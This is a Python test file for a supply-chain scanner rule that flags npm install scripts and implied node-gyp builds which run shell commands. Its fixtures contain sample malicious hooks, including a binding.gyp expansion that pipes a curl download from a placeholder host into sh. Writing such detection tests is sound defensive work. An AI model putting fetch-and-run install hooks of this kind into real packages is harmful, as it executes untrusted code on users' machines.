import json

from ztsa.model import Status


def test_pass(machine):
    machine.fixture("npm-postinstall-benign")
    machine.ws("pkg/package.json", json.dumps({"scripts": {"postinstall": "node ./build.js"}}))
    assert machine.run("SUP004").status is Status.PASS


def test_fail(machine):
    machine.fixture("npm-postinstall-node-e")
    machine.ws("b/package.json", json.dumps({"scripts": {
        "preinstall": "sh -c 'echo hi'", "prepare": "wget -q https://x.invalid/a"}}))
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert sorted((e.path, e.detail.split(":")[0]) for e in out.evidence) == [
        ("b/package.json", "preinstall runs sh -c"), ("b/package.json", "prepare runs wget"),
        ("package.json", "postinstall runs node -e")]


def test_unknown(machine):
    machine.ws("package.json", '{"scripts": {"postinstall": ')
    assert machine.run("SUP004").status is Status.UNKNOWN




def test_the_install_a_binding_gyp_implies_and_the_commands_it_runs(machine):
    """npm runs `node-gyp rebuild` for a package with a binding.gyp and no install
    script; gyp runs the file's `<!(...)` expansions with the shell while it does."""
    machine.ws("package.json", json.dumps({"name": "n", "scripts": {"test": "true"}}))
    machine.ws("binding.gyp", "{'targets': [{'target_name': 'n',\n"
               "  'sources': ['<!@(node -p \"require(\\'fs\\').readdirSync(\\'src\\')\")'],\n"
               "  'libraries': ['<!(curl -s https://x.invalid/p | sh)']}]}\n")
    out = machine.run("SUP004")
    assert out.status is Status.FAIL
    assert [(e.path, e.line, e.detail.split(":")[0]) for e in out.evidence] == [
        ("binding.gyp", 2, "install (implied) -> binding.gyp command runs node -p"),
        ("binding.gyp", 3, "install (implied) -> binding.gyp command runs curl")]
    machine.ws("package.json", json.dumps({"name": "n", "gypfile": False}))
    assert machine.run("SUP004").status is Status.PASS
